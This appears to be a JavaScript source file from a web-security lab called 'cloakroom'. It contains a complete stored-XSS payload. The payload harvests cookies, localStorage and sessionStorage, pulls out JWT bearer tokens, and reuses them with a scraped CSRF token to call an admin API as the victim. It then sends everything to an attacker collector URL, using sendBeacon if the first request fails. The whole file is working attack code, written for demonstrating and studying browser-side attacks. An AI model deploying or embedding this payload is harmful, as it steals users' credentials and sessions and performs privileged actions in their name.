// cloakroom lab: the XSS payload. It runs inside the victim's page (loaded
// by a stored comment) and tries what a real attacker would: take every
// credential the page can reach, call the admin API from the page itself,
// and send everything to the attacker's collector.
(function () {
  "use strict";
  if (window.__cloakroomLabPayload) return; // comments re-render; report once per page
  window.__cloakroomLabPayload = true;

  var collector = "COLLECTOR_URL";

  function dump(storage) {
    var out = {};
    try {
      for (var i = 0; i < storage.length; i++) {
        var k = storage.key(i);
        out[k] = storage.getItem(k);
      }
    } catch (e) { /* storage blocked */ }
    return out;
  }

  // probe makes a same-origin request from the victim's page: the browser
  // attaches cookies by itself; headers are what the payload adds.
  async function probe(path, headers) {
    try {
      var res = await fetch(path, { credentials: "same-origin", headers: headers || {} });
      var body = await res.text();
      return { status: res.status, body: body.slice(0, 4000) };
    } catch (e) {
      return { status: 0, error: String(e) };
    }
  }

  // findToken returns the first stored value that looks like a bearer
  // token (a JWT), as a payload would look for one.
  function findToken(stores) {
    for (var s = 0; s < stores.length; s++) {
      for (var k in stores[s]) {
        var v = String(stores[s][k] || "");
        var m = v.match(/eyJ[\w-]*\.eyJ[\w-]*\.[\w-]*/);
        if (m) return m[0];
      }
    }
    return "";
  }

  (async function () {
    var report = {
      page: location.href,
      cookie: document.cookie,
      localStorage: dump(window.localStorage),
      sessionStorage: dump(window.sessionStorage),
    };
    report.me = await probe("/api/me", findToken([report.localStorage, report.sessionStorage])
      ? { "Authorization": "Bearer " + findToken([report.localStorage, report.sessionStorage]) } : {});
    // The cloakroom gateway's session endpoint: who is signed in, and the
    // CSRF token (404 on the jwt app).
    report.authSession = await probe("/auth/session");
    var headers = {};
    var token = findToken([report.localStorage, report.sessionStorage]);
    if (token) {
      headers["Authorization"] = "Bearer " + token;
      report.usedBearer = true;
    }
    try {
      var session = JSON.parse(report.authSession.body || "null");
      var csrf = session && (session.csrf_token || session.csrfToken);
      if (csrf) {
        headers["X-CSRF-Token"] = csrf;
        report.usedCSRF = true;
      }
    } catch (e) { /* not JSON */ }
    // Act as the victim right here, from the open page: this works in
    // every design while the page is open.
    report.adminCall = await probe("/api/admin/users", headers);

    var body = JSON.stringify(report);
    try {
      // text/plain keeps this a "simple" request: no preflight needed.
      await fetch(collector, { method: "POST", mode: "cors", body: body, headers: { "Content-Type": "text/plain" } });
    } catch (e) {
      if (navigator.sendBeacon) navigator.sendBeacon(collector, body);
    }
  })();
})();
